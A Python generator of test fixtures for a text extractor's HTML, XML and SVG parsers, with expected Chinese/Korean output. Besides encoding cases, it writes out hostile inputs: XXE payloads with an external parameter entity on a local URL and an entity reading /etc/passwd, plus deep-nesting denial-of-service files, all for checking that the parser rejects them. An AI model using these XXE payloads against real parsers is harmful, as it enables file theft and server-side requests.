#!/usr/bin/python3
"""More web fixtures, beside make_web.py's: what the html, xml and svg extractors do that
those do not show.  Each FIXTURE gets FIXTURE.truth.json (format in README.md).  Written byte
for byte, so encodings and hostile constructs are exactly what the file says.

  html/notes-rich.html      UTF-8 page: title, meta description/keywords/author, h1/h2, p, a
                            <br> split paragraph, list items, a zh|ko table, an img with alt and
                            title whose src is a data: PNG (the OCR picture), abbr, pre lines,
                            an HTML comment; script, style, noscript and template hold Chinese
                            that must NOT come out
  html/notes-gb2312.html    GB2312 bytes declared by <meta http-equiv ... charset=gb2312>
  html/notes-euckr.html     EUC-KR bytes declared by <meta charset="euc-kr">
  html/nometa-cp949.html    CP949 bytes with UHC-only syllables and no declaration: detection
  html/notes-utf16.html     UTF-16LE with a byte-order mark (and a lying meta charset)
  html/notes.xhtml          XHTML 1.0 Strict (XML declaration, public DOCTYPE): HTML outbids XML
  html/nested-1000.html     hostile: 1000 nested divs; text deeper than xml-depth (256) skipped
                            with ONE limit-depth record, the text after the nest kept
  html/nested-6000.html     hostile: 6000 nested b: past 4x the limit the page is not read on
  xml/mixed.xml             generic XML: note/zh + note/ko, CJK attributes, mixed content, CDATA
  xml/mixed-utf16.xml       the same in UTF-16LE (BOM, encoding="UTF-16")
  xml/mixed-gb18030.xml     the same, encoding="GB18030" (libxml2 decodes per the declaration)
  xml/doctype-plain.xml     a DOCTYPE naming file:///etc/passwd as external subset, no entities:
                            allowed, and the file is never opened
  xml/truncated.xml         cut in the middle of an element: text up to the cut, one corrupt
  xml/xxe-param.xml         hostile: external parameter entity on http://127.0.0.1:9/
  xml/deep.xml              hostile: 300 nested elements -> limit-depth
  svg/notes.svg             title, desc, text with tspans, a switch with zh/ko systemLanguage,
                            textPath, Inkscape flowRoot, foreignObject XHTML, image with a data:
                            PNG, RDF metadata; style and script hold Chinese that must NOT come out
  svg/prefixed.svg          svg:svg with a prefixed namespace, no XML declaration
  svg/minimal.svg           <svg xmlns="..."> and one <text>, nothing else
  svg/doctype.svg           the SVG 1.1 public DOCTYPE -> dtd-rejected (SVG takes no DTD)
  svg/xxe-param.svg         hostile: parameter entity on http://127.0.0.1:9/ + file entity

Run: /usr/bin/python3 tests/gen/office/make_web_extra.py (make_all.sh runs it after make_web.py)
"""
import base64
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import common as C  # noqa: E402
from common import AUTHOR_ZH, OCR_KO, OCR_ZH, Truth, ko, zh  # noqa: E402

X = C.xml_escape
HTML = C.out_dir("html")
XML = C.out_dir("xml")
SVG = C.out_dir("svg")
CONF = C.out_dir("confusables")

# Chinese that sits in code and must never become a segment (checked by the golden files)
HIDDEN = "脚本里的中文不是文本"


def write(path, data, truth):
    with open(path, "wb") as f:
        f.write(data)
    truth.write(path)
    C.report(path)


def png_uri():
    return "data:image/png;base64," + base64.b64encode(C.red_text_png()).decode("ascii")


# ------------------------------------------------------------------------------------- HTML

def notes_html():
    t = Truth("UTF-8 page with <meta charset>. Units: title (kind title, where 'title'), meta "
              "description/keywords/author (kind metadata, where 'meta NAME'), h1/h2 (kind "
              "heading, 'heading N'), block elements (kind body, 'paragraph N' counted over the "
              "blocks that hold text), a <br> splits a paragraph into 'paragraph N line M', "
              "td/th are cells 'table 1 B3', pre lines 'pre 1 line M', img alt/title and abbr "
              "title are kind alt ('image 1 in paragraph 6'), an HTML comment is kind comment "
              "('comment 1', extra markup html-comment). The img src is a data: PNG (the "
              "red OCR picture: %s / %s), handed back as member data-uri-1.png. script, style, "
              "noscript and template hold '%s', which must not appear." % (OCR_ZH, OCR_KO,
                                                                          HIDDEN))
    title = "《星之旅》第12集 原画修改意见"
    t.add("title", "title", title)
    t.add("metadata", "meta description", zh("n015"))
    t.add("metadata", "meta author", AUTHOR_ZH)
    t.add("comment", "comment 1", "内部备注：这一页不要发给外包。", markup="html-comment")
    t.add("heading", "heading 1", "原画修改意见")
    t.add("heading", "heading 2", "원화 수정 의견")
    t.add("body", "paragraph 1", zh("n001"))
    t.add("body", "paragraph 2", ko("n001"))
    t.add("body", "paragraph 3 line 1", zh("n003"))
    t.add("body", "paragraph 3 line 2", ko("n003"))
    t.add("body", "paragraph 4", zh("n005"))
    t.add("body", "paragraph 5", ko("n005"))
    t.add("cell", "table 1 A1", "中文")
    t.add("cell", "table 1 B1", "한국어")
    t.add("cell", "table 1 A2", zh("n010"))
    t.add("cell", "table 1 B2", ko("n010"))
    t.add("cell", "table 1 A3", zh("n016"))
    t.add("cell", "table 1 B3", ko("n016"))
    t.add("body", "paragraph 6", "参考图如下")
    t.add("alt", "image 1 in paragraph 6", "参考图：" + OCR_ZH)
    t.add("alt", "image 1 title in paragraph 6", OCR_KO)
    t.add("body", "paragraph 7", "请通知作监。")
    t.add("alt", "abbr 1 in paragraph 7", "作画监督")
    t.add("body", "pre 1 line 1", zh("n029"))
    t.add("body", "pre 1 line 2", ko("n029"))
    for n in ("n001", "n003", "n005", "n010", "n016", "n029"):
        t.pair(zh(n), ko(n), "adjacent")
    t.extra["must_not_contain"] = [HIDDEN]
    t.extra["members"] = ["data-uri-1.png"]
    page = """<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<title>%(title)s</title>
<meta name="description" content="%(desc)s">
<meta name="keywords" content="原画,修改,작화">
<meta name="author" content="%(author)s">
<style>
  body { font-family: "Noto Sans CJK SC"; }
  p.note::before { content: "%(hidden)s"; }
</style>
<script>var msg = "%(hidden)s";</script>
</head>
<body>
<!-- 内部备注：这一页不要发给外包。 -->
<h1>原画修改意见</h1>
<h2>원화 수정 의견</h2>
<p class="note">%(z1)s</p>
<p class="note">%(k1)s</p>
<p>%(z3)s<br>
%(k3)s</p>
<ul>
  <li>%(z5)s</li>
  <li>%(k5)s</li>
</ul>
<table border="1">
  <thead><tr><th>中文</th><th>한국어</th></tr></thead>
  <tbody>
    <tr><td>%(z10)s</td><td>%(k10)s</td></tr>
    <tr><td>%(z16)s</td><td>%(k16)s</td></tr>
  </tbody>
</table>
<p>参考图如下<img src="%(png)s" alt="参考图：%(ocr_zh)s" title="%(ocr_ko)s" width="320" height="120"></p>
<p>请通知<abbr title="作画监督">作监</abbr>。</p>
<pre>
%(z29)s
%(k29)s
</pre>
<noscript>%(hidden)s</noscript>
<template><p>%(hidden)s</p></template>
</body>
</html>
""" % {"title": X(title), "desc": X(zh("n015")), "author": AUTHOR_ZH, "hidden": HIDDEN,
       "z1": X(zh("n001")), "k1": X(ko("n001")), "z3": X(zh("n003")), "k3": X(ko("n003")),
       "z5": X(zh("n005")), "k5": X(ko("n005")), "z10": X(zh("n010")), "k10": X(ko("n010")),
       "z16": X(zh("n016")), "k16": X(ko("n016")), "z29": X(zh("n029")), "k29": X(ko("n029")),
       "png": png_uri(), "ocr_zh": OCR_ZH, "ocr_ko": OCR_KO}
    write(os.path.join(HTML, "notes-rich.html"), page.encode("utf-8"), t)


def legacy_html(name, charset, meta, title, texts, note):
    t = Truth(note)
    t.add("title", "title", title)
    body = []
    for i, s in enumerate(texts, 1):
        t.add("body", "paragraph %d" % i, s)
        body.append("<p>%s</p>" % X(s))
    page = "<!DOCTYPE html>\n<html>\n<head>\n%s<title>%s</title>\n</head>\n<body>\n%s\n" \
        "</body>\n</html>\n" % (meta + "\n" if meta else "", title, "\n".join(body))
    write(os.path.join(HTML, name), page.encode(charset), t)
    return t


def utf16_html():
    t = Truth("UTF-16LE with a byte-order mark: the BOM decides, the (lying) meta charset is "
              "not used.")
    t.add("body", "paragraph 1", zh("n027"))
    t.add("body", "paragraph 2", ko("n027"))
    t.pair(zh("n027"), ko("n027"), "adjacent")
    page = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>颜色</title></head>\n'
            "<body>\n<p>%s</p>\n<p>%s</p>\n</body></html>\n" % (zh("n027"), ko("n027")))
    write(os.path.join(HTML, "notes-utf16.html"), b"\xff\xfe" + page.encode("utf-16-le"), t)


def xhtml():
    t = Truth("XHTML 1.0 Strict with an XML declaration: the html extractor outbids generic XML "
              "(its bid counts the XML declaration and <!DOCTYPE html), so the units are HTML "
              "paragraphs, not element paths.")
    t.add("title", "title", "第12集")
    t.add("body", "paragraph 1", zh("n011"))
    t.add("body", "paragraph 2", ko("n011"))
    t.pair(zh("n011"), ko("n011"), "adjacent")
    page = ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
            '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
            '<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="zh" lang="zh">\n'
            "<head><title>第12集</title></head>\n<body>\n<p>%s</p>\n<p>%s</p>\n</body>\n</html>\n"
            % (X(zh("n011")), X(ko("n011"))))
    write(os.path.join(HTML, "notes.xhtml"), page.encode("utf-8"), t)


def deep_html():
    deep = 1000
    t = Truth("Hostile: %d nested <div>s (libxml2's HTML parser has no depth limit). Text down "
              "to the xml-depth limit (256 elements, html and body included) is kept; the "
              "text at depth %d is skipped; ONE limit-depth record; the paragraph after the "
              "nest is back at depth 3 and is kept (the parse goes on up to 4x the limit)."
              % (deep, deep))
    t.add("body", "paragraph 1", "浅层的文字：这一段必须保留。")
    t.add("body", "paragraph 2", "第十层的文字也要保留。")
    t.add("body", "paragraph 3", "深层结构之后的文字也要保留。")
    t.error("limit-depth", "nested-1000.html")
    t.extra["must_not_contain"] = ["深层的文字不应该出现"]
    page = ("<!DOCTYPE html>\n<html><head><title>deep</title></head><body>\n"
            "<p>浅层的文字：这一段必须保留。</p>\n" + "<div>" * 8 + "第十层的文字也要保留。" +
            "<div>" * (deep - 8) + "深层的文字不应该出现" + "</div>" * deep +
            "\n<p>深层结构之后的文字也要保留。</p>\n</body></html>\n")
    write(os.path.join(HTML, "nested-1000.html"), page.encode("utf-8"), t)

    deep = 6000
    t = Truth("Hostile: %d nested <b>s, more than 4x the xml-depth limit. libxml2 searches its "
              "element stack for every unmatched end tag (a page of deep nesting followed by "
              "stray end tags costs depth x tags), so past 1024 levels the page is not read "
              "further: the text before the nest is kept, ONE limit-depth record says so, the "
              "text after the nest is lost." % deep)
    t.add("body", "paragraph 1", "浅层的文字：这一段必须保留。")
    t.error("limit-depth", "nested-6000.html")
    t.extra["must_not_contain"] = ["深层的文字不应该出现"]
    page = ("<!DOCTYPE html>\n<html><head><title>deeper</title></head><body>\n"
            "<p>浅层的文字：这一段必须保留。</p>\n<p>" + "<b>" * deep + "深层的文字不应该出现" +
            "</b>" * deep + "</p>\n<p>这段文字在嵌套之后。</p>\n</body></html>\n")
    write(os.path.join(HTML, "nested-6000.html"), page.encode("utf-8"), t)


# -------------------------------------------------------------------------------------- XML

def notes_xml_text(decl):
    mixed = "请把<b>这里</b>的颜色改成#87CEEB。"
    return (decl + '<notes xmlns="urn:example:notes" episode="第12集" lang="zh,ko">\n'
            '  <note id="1" author="%s">\n    <zh>%s</zh>\n    <ko>%s</ko>\n  </note>\n'
            '  <note id="2">\n    <zh>%s</zh>\n    <ko>%s</ko>\n  </note>\n'
            '  <note id="3" status="done">\n    <zh>%s</zh>\n    <ko>%s</ko>\n  </note>\n'
            '  <note id="4">\n    <para>%s</para>\n  </note>\n'
            '  <memo><![CDATA[CDATA里的备注：不要发给外包。]]></memo>\n</notes>\n'
            % (AUTHOR_ZH, X(zh("n004")), X(ko("n004")), X(zh("n008")), X(ko("n008")),
               X(zh("n012")), X(ko("n012")), mixed))


def notes_xml_truth(note):
    t = Truth(note)
    t.add("metadata", "/notes/@episode", "第12集")
    t.add("metadata", "/notes/note/@author", AUTHOR_ZH)
    t.add("body", "/notes/note/zh", zh("n004"))
    t.add("body", "/notes/note/ko", ko("n004"))
    t.add("body", "/notes/note[2]/zh", zh("n008"))
    t.add("body", "/notes/note[2]/ko", ko("n008"))
    t.add("body", "/notes/note[3]/zh", zh("n012"))
    t.add("body", "/notes/note[3]/ko", ko("n012"))
    t.add("body", "/notes/note[4]/para", "请把这里的颜色改成#87CEEB。")
    t.add("body", "/notes/memo", "CDATA里的备注：不要发给外包。")
    for n in ("n004", "n008", "n012"):
        t.pair(zh(n), ko(n), "adjacent")
    return t


def notes_xml():
    note = ("Generic XML. where = element path, an index from the second sibling of a name on "
            "(/notes/note[3]/zh); attribute values with CJK letters are kind attribute "
            "(/notes/@episode); an element with text of its own collects its children's text "
            "(mixed content: note[4]/para is one unit); CDATA is text.")
    write(os.path.join(XML, "mixed.xml"),
          notes_xml_text('<?xml version="1.0" encoding="UTF-8"?>\n').encode("utf-8"),
          notes_xml_truth(note))
    write(os.path.join(XML, "mixed-utf16.xml"),
          b"\xff\xfe" + notes_xml_text('<?xml version="1.0" encoding="UTF-16"?>\n')
          .encode("utf-16-le"),
          notes_xml_truth("mixed.xml in UTF-16LE with a byte-order mark (libxml2 decodes)."))
    write(os.path.join(XML, "mixed-gb18030.xml"),
          notes_xml_text('<?xml version="1.0" encoding="GB18030"?>\n').encode("gb18030"),
          notes_xml_truth("mixed.xml in GB18030 declared by the XML declaration (libxml2 "
                          "decodes through iconv); Hangul is four-byte GB18030."))


def truncated_xml():
    t = Truth("A file cut in the middle of an element (a dump keeps what a crashed copy left): "
              "libxml2 stops at the end of the bytes with a well-formedness error; the text "
              "read up to there is kept, the error is a corrupt record (warning).")
    t.add("body", "/notes/note/zh", zh("n031"))
    t.add("body", "/notes/note/ko", ko("n031")[:12])
    t.error("corrupt", "truncated.xml")
    doc = ('<?xml version="1.0" encoding="UTF-8"?>\n<notes>\n  <note>\n    <zh>%s</zh>\n'
           "    <ko>%s" % (X(zh("n031")), X(ko("n031")[:12])))
    write(os.path.join(XML, "truncated.xml"), doc.encode("utf-8"), t)


def doctype_plain_xml():
    t = Truth("A DOCTYPE without entity declarations is allowed in generic XML, but nothing it "
              "names is loaded: the external subset file:///etc/passwd is never opened (no "
              "DTDLOAD, deny-all entity loader).")
    t.add("body", "/notes/zh", zh("n023"))
    t.add("body", "/notes/ko", ko("n023"))
    t.pair(zh("n023"), ko("n023"), "adjacent")
    doc = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<!DOCTYPE notes SYSTEM "file:///etc/passwd">\n'
           "<notes>\n  <zh>%s</zh>\n  <ko>%s</ko>\n</notes>\n" % (X(zh("n023")), X(ko("n023"))))
    write(os.path.join(XML, "doctype-plain.xml"), doc.encode("utf-8"), t)


def hostile_xml(name, doc, note):
    t = Truth(note)
    t.extra["hostile"] = True
    t.error("dtd-rejected", name)
    t.extra["must_not_contain"] = ["root:"]
    write(os.path.join(XML, name), doc.encode("utf-8"), t)


def hostile():
    hostile_xml("xxe-param.xml",
                '<?xml version="1.0" encoding="UTF-8"?>\n'
                '<!DOCTYPE notes [\n  <!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">\n'
                "  %remote;\n]>\n<notes><zh>&exfil;</zh></notes>\n",
                "Hostile: external parameter entity on http://127.0.0.1:9/ (out-of-band XXE). "
                "dtd-rejected at the declaration; no socket is opened.")
    t = Truth("Hostile: 300 nested elements, deeper than the xml-depth limit (256): the parse "
              "stops with limit-depth; the text before the nest is kept.")
    t.extra["hostile"] = True
    t.error("limit-depth", "deep.xml")
    t.add("body", "/doc/zh", zh("n024"))
    doc = ('<?xml version="1.0"?>\n<doc><zh>%s</zh>' % X(zh("n024")) + "<d>" * 300 + "深" +
           "</d>" * 300 + "</doc>\n")
    write(os.path.join(XML, "deep.xml"), doc.encode("utf-8"), t)


# -------------------------------------------------------------------------------------- SVG

def notes_svg():
    t = Truth("SVG with title/desc (kinds title, desc: 'title 1', 'desc 1'), one unit per <text> "
              "('text N', tspans joined, a tspan with x/y starts a new line, x/y and "
              "systemLanguage in extra), a <switch> with zh and ko alternatives, textPath, "
              "Inkscape flowRoot/flowPara, foreignObject XHTML split at its p elements "
              "('foreignObject 1'), RDF metadata (dc:title, dc:creator as kind metadata), an "
              "<image> with a data: PNG handed back as data-uri-1.png. style and script hold "
              "'%s', which must not appear." % HIDDEN)
    t.add("title", "title 1", "第12集 分镜修改")
    t.add("body", "desc 1", "제12화 그림대본 수정", element="desc")
    t.add("metadata", "metadata title", "第12集 分镜修改")
    t.add("metadata", "metadata creator", AUTHOR_ZH)
    t.add("body", "text 1", zh("n006"))
    t.add("body", "text 2", ko("n006"))
    t.add("body", "text 3", zh("n009"))
    t.add("body", "text 4", ko("n009"))
    t.add("body", "text 5", "沿着路径的文字")
    t.add("body", "text 6", zh("n014"))
    t.add("body", "text 6", ko("n014"))
    t.add("body", "foreignObject 1", zh("n017"))
    t.add("body", "foreignObject 1", ko("n017"))
    for n in ("n006", "n009", "n014", "n017"):
        t.pair(zh(n), ko(n), "adjacent")
    t.extra["must_not_contain"] = [HIDDEN]
    t.extra["members"] = ["data-uri-1.png"]
    z6, k6 = zh("n006"), ko("n006")
    cut = len(z6) // 2
    doc = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#"
     xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
     xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
     width="1280" height="720" viewBox="0 0 1280 720" version="1.1">
  <title>第12集 分镜修改</title>
  <desc>제12화 그림대본 수정</desc>
  <metadata>
    <rdf:RDF>
      <cc:Work rdf:about="">
        <dc:format>image/svg+xml</dc:format>
        <dc:title>第12集 分镜修改</dc:title>
        <dc:creator><cc:Agent><dc:title>%(author)s</dc:title></cc:Agent></dc:creator>
      </cc:Work>
    </rdf:RDF>
  </metadata>
  <style>text { font-family: "Noto Sans CJK SC"; } .x::after { content: "%(hidden)s"; }</style>
  <script>alert("%(hidden)s");</script>
  <sodipodi:namedview id="base" pagecolor="#ffffff"/>
  <g id="layer1">
    <rect x="100" y="60" width="320" height="120" fill="none" stroke="red"/>
    <text x="120" y="88" font-size="24">%(z6a)s<tspan fill="red">%(z6b)s</tspan></text>
    <text x="120" y="130" font-size="24"><tspan x="120" dy="0">%(k6)s</tspan></text>
    <switch>
      <text x="600" y="88" systemLanguage="zh">%(z9)s</text>
      <text x="600" y="88" systemLanguage="ko">%(k9)s</text>
    </switch>
    <path id="curve" d="M 100 400 C 300 300 500 500 700 400" fill="none"/>
    <text><textPath xlink:href="#curve">沿着路径的文字</textPath></text>
    <flowRoot xml:space="preserve"><flowRegion><rect width="400" height="200" x="800" y="400"/></flowRegion><flowPara>%(z14)s</flowPara><flowPara>%(k14)s</flowPara></flowRoot>
    <foreignObject x="100" y="500" width="600" height="120">
      <div xmlns="http://www.w3.org/1999/xhtml"><p>%(z17)s</p><p>%(k17)s</p></div>
    </foreignObject>
    <image x="900" y="60" width="320" height="120" xlink:href="%(png)s"/>
  </g>
</svg>
""" % {"author": AUTHOR_ZH, "hidden": HIDDEN, "z6a": X(z6[:cut]), "z6b": X(z6[cut:]),
       "k6": X(k6), "z9": X(zh("n009")), "k9": X(ko("n009")), "z14": X(zh("n014")),
       "k14": X(ko("n014")), "z17": X(zh("n017")), "k17": X(ko("n017")), "png": png_uri()}
    write(os.path.join(SVG, "notes.svg"), doc.encode("utf-8"), t)


def prefixed_svg():
    t = Truth("No XML declaration, the SVG namespace bound to a prefix (svg:svg, svg:text): "
              "still SVG by its root element.")
    t.add("body", "text 1", zh("n026"))
    t.add("body", "text 2", ko("n026"))
    t.pair(zh("n026"), ko("n026"), "adjacent")
    doc = ('<svg:svg xmlns:svg="http://www.w3.org/2000/svg" width="400" height="200">\n'
           '  <svg:text x="10" y="40">%s</svg:text>\n  <svg:text x="10" y="80">%s</svg:text>\n'
           "</svg:svg>\n" % (X(zh("n026")), X(ko("n026"))))
    write(os.path.join(SVG, "prefixed.svg"), doc.encode("utf-8"), t)


def minimal_svg():
    t = Truth("The smallest SVG: no declaration, the namespace declaration right before the '>' "
              "of the root tag, one <text> without a position.")
    t.add("body", "text 1", zh("n025"))
    doc = '<svg xmlns="http://www.w3.org/2000/svg"><text>%s</text></svg>' % X(zh("n025"))
    write(os.path.join(SVG, "minimal.svg"), doc.encode("utf-8"), t)


def doctype_svg():
    t = Truth("The SVG 1.1 public DOCTYPE (older Inkscape, Illustrator and many converters write "
              "it). SVG needs no DTD and a DOCTYPE is where XXE lives, so bilex refuses the "
              "document: ONE dtd-rejected record and no segments. A reader that ignored the "
              "DOCTYPE would find the text '%s' and '%s'." % (zh("n028"), ko("n028")))
    t.error("dtd-rejected", "doctype.svg")
    doc = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
           '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
           '<svg xmlns="http://www.w3.org/2000/svg" version="1.1" width="400" height="200">\n'
           '  <text x="10" y="40">%s</text>\n  <text x="10" y="80">%s</text>\n</svg>\n'
           % (X(zh("n028")), X(ko("n028"))))
    write(os.path.join(SVG, "doctype.svg"), doc.encode("utf-8"), t)


def xxe_svg():
    t = Truth("Hostile: the image-upload XXE. A DOCTYPE with an external parameter entity on "
              "http://127.0.0.1:9/ and a general entity on file:///etc/passwd, used in a "
              "<text>. The SVG bid still wins (the root is <svg> in the SVG namespace) and the "
              "DOCTYPE ends the parse as dtd-rejected: no socket, no file read.")
    t.extra["hostile"] = True
    t.error("dtd-rejected", "xxe-param.svg")
    t.extra["must_not_contain"] = ["root:"]
    doc = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           "<!DOCTYPE svg [\n"
           '  <!ENTITY % remote SYSTEM "http://127.0.0.1:9/xxe.dtd">\n  %remote;\n'
           '  <!ENTITY passwd SYSTEM "file:///etc/passwd">\n]>\n'
           '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200">\n'
           '  <text x="10" y="40">&passwd;</text>\n</svg>\n')
    write(os.path.join(SVG, "xxe-param.svg"), doc.encode("utf-8"), t)


def main():
    notes_html()
    legacy_html("notes-gb2312.html", "gb2312",
                '<meta http-equiv="Content-Type" content="text/html; charset=gb2312">',
                "修改意见", [zh("n018"), zh("n019"), "solo: " + C.N["solo-zh-01"]["ZH"]],
                "GB2312 bytes declared by <meta http-equiv=Content-Type content='text/html; "
                "charset=gb2312'>; the declaration is taken because it decodes the bytes "
                "cleanly, widened to its superset (charset GB18030 in the records).")
    legacy_html("notes-euckr.html", "euc-kr", '<meta charset="euc-kr">', "수정 의견",
                [ko("n018"), ko("n019"), ko("n020")],
                "EUC-KR bytes declared by <meta charset=euc-kr> (read with the CP949 superset).")
    legacy_html("nometa-cp949.html", "cp949", None, "의견",
                [ko("n030"), ko("n031"), ko("n032"), "똠방각하 햏 뷁: 통합형 한글 글자입니다."],
                "CP949 bytes with UHC-only syllables (똠, 햏, 뷁) and no declaration at all: "
                "the charset comes from detection (bx_charset_choose).")
    utf16_html()
    xhtml()
    deep_html()
    notes_xml()
    doctype_plain_xml()
    truncated_xml()
    hostile()
    notes_svg()
    prefixed_svg()
    minimal_svg()
    doctype_svg()
    xxe_svg()


if __name__ == "__main__":
    main()
